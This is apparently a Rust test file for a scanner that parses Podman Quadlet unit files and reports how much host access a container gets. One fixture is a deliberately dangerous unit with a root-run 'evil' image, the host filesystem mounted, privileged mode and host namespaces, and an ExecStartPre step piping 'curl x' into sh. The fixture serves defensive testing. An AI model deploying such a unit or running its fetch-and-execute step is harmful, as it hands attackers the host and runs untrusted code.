use proptest::prelude::*;

use super::*;
use crate::subject::container::access::Grant;

fn quadlet(name: &str, text: &str) -> Quadlet {
    read(name, text.as_bytes()).unwrap_or_else(|| panic!("{name} is no Quadlet"))
}

fn options(quadlet: &Quadlet) -> Vec<&str> {
    quadlet.container.access.options().collect()
}

#[test]
fn a_container_with_the_host() {
    let web = quadlet(
        "web.container",
        "[Unit]\nDescription=x\n[Container]\nImage=docker.io/evil:1\nExec=-c 'id > /x'\nEntrypoint=/bin/sh\n\
         ContainerName=web\nUser=0\nGroup=0\nVolume=/:/host\nVolume=data.volume:/data\n\
         Mount=type=bind,source=/etc,target=/x\nAddCapability=CAP_SYS_ADMIN NET_ADMIN\nAddDevice=-/dev/sda\n\
         Network=host\nSecurityLabelDisable=true\nPodmanArgs=--privileged \\\n --pid=host\nNotify=yes\n\
         [Service]\nRestart=always\nExecStartPre=-/bin/sh -c \"curl x | sh\"\n[Install]\nWantedBy=multi-user.target default.target\n",
    );
    assert_eq!(web.unit.as_deref(), Some("web.service"));
    let container = &web.container;
    assert_eq!((container.source, &*container.engine, &*container.verb), (Source::Quadlet, "podman", "run"));
    assert_eq!(
        (container.image.as_deref(), container.name.as_deref()),
        (Some("docker.io/evil:1"), Some("web"))
    );
    assert_eq!((container.user.as_deref(), &*container.restart_policy), (Some("0:0"), "always"));
    assert_eq!(container.command, ["/bin/sh", "-c", "id > /x"]);
    assert_eq!(web.wanted_by, ["multi-user.target", "default.target"]);
    assert_eq!(web.on_host, [[&b"/bin/sh"[..], b"-c", b"curl x | sh"].map(<[u8]>::to_vec)]);
    assert_eq!(
        options(&web),
        [
            "-v /:/host",
            "--mount=type=bind,source=/etc,target=/x",
            "--cap-add=CAP_SYS_ADMIN",
            "--cap-add=NET_ADMIN",
            "--device=/dev/sda",
            "--network=host",
            "--security-opt=label=disable",
            "--privileged",
            "--pid=host"
        ]
    );
}

/// As podman 5.4 names them (`quadlet -dryrun`).
#[test]
fn the_service_that_it_becomes() {
    for (name, unit, verb) in [
        ("a.container", Some("a.service"), "run"),
        ("a.pod", Some("a-pod.service"), "pod create"),
        ("a.kube", Some("a.service"), "kube play"),
        ("a.volume", Some("a-volume.service"), "volume create"),
        ("a.network", Some("a-network.service"), "network create"),
        ("a.image", Some("a-image.service"), "image pull"),
        ("a.build", Some("a-build.service"), "build"),
        ("a@.container", Some("a@.service"), "run"),
        ("a@1.container", Some("a@1.service"), "run"),
        ("a@.pod", Some("a@-pod.service"), "pod create"),
        ("a.b.container", Some("a.b.service"), "run"),
        ("container", None, "run"),
        ("foo-.container", None, "run"),
    ] {
        let found = quadlet(name, "");
        assert_eq!((found.unit.as_deref(), &*found.container.verb), (unit, verb), "{name}");
    }
    let named = quadlet("a.container", "[Container]\nServiceName=other\n");
    assert_eq!(named.unit.as_deref(), Some("other.service"));
    for name in ["a.service", "acontainer", "a.conf", ""] {
        assert_eq!(read(name, b""), None, "{name}");
    }
}

#[test]
fn other_sections_say_nothing_and_the_last_word_counts() {
    let found = quadlet(
        "a.container",
        "[Pod]\nVolume=/:/host\n[X-Container]\nImage=a\n[Container]\nImage=b\nImage=c\nExec=x\nExec=y z\n\
         PodmanArgs=--privileged\nPodmanArgs=--privileged=false\n[Service]\nRestart=always\nRestart=no\n",
    );
    assert_eq!(
        (found.container.image.as_deref(), found.container.command.join(" ")),
        (Some("c"), "y z".into())
    );
    assert_eq!((options(&found), found.container.comes_back()), (vec![], false));
    let reset =
        quadlet("a.container", "[Container]\nVolume=/:/x\nVolume=\nUserNS=host\nUserNS=auto\nNetwork=host\n");
    assert_eq!(
        options(&reset),
        ["--network=host"],
        "an empty value takes a list back, of others the last one counts"
    );
}

#[test]
fn volumes_pods_and_kubes() {
    let bind = quadlet("units.volume", "[Volume]\nType=none\nOptions=bind\nDevice=/etc/systemd/system\n");
    assert_eq!(bind.container.access.grant(), Some(Grant::Full));
    assert_eq!(quadlet("a.volume", "[Volume]\nDevice=tmpfs\nType=tmpfs\n").container.access.grant(), None);
    let pod = quadlet("a.pod", "[Pod]\nNetwork=host\nVolume=/run/podman/podman.sock:/s\n");
    assert_eq!(options(&pod), ["--network=host", "-v /run/podman/podman.sock:/s"]);
    assert_eq!(pod.container.restart_policy, "on-failure");
    let kube = quadlet("a.kube", "[Kube]\nYaml=/srv/a.yaml\n");
    assert_eq!(kube.manifest.as_deref(), Some(&b"/srv/a.yaml"[..]));
}

#[test]
fn a_file_that_ends_early_says_what_stood_before() {
    let found = quadlet("a.container", "[Container]\nImage=x\n[Bad\nVolume=/:/x\n");
    assert_eq!(found.container.image.as_deref(), Some("x"));
    assert!(found.fault.is_some() && found.container.access.grant().is_none());
}

proptest! {
    #[test]
    fn no_text_panics(
        name in "[a-z@.-]{0,6}\\.?(container|pod|kube|volume|network|image|build|artifact|conf)",
        text in "((\\[(Container|Pod|Kube|Volume|Service|Install)\\]\n)|((Image|Exec|Volume|PodmanArgs|Restart|Device|Options|\
                 AddDevice|ExecStartPre|WantedBy)=[ -~\u{e9}\\\\\"'-]{0,12}\n)){0,10}",
    ) {
        let _any_answer = read(&name, text.as_bytes());
    }
}
